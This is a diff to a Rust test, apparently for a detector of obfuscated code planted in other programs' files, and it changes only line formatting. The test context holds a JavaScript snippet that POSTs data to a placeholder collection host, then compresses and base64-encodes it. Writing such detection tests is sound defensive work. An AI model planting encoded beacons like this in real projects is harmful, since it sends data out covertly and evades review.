@@ -1417,7 +1417,8 @@ fn decoded_code_planted_in_another_programs_file() {
     use std::io::Write;
     let payload = "const https = require('https');\nhttps.request('https://collect.example.invalid/t', { method: 'POST' }).end(String(Date.now()));\n";
     let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-    z.write_all(payload.as_bytes()).expect("writing to a Vec does not fail");
+    z.write_all(payload.as_bytes())
+        .expect("writing to a Vec does not fail");
     let blob = base64::Engine::encode(
         &base64::engine::general_purpose::STANDARD,
         z.finish().expect("writing to a Vec does not fail"),
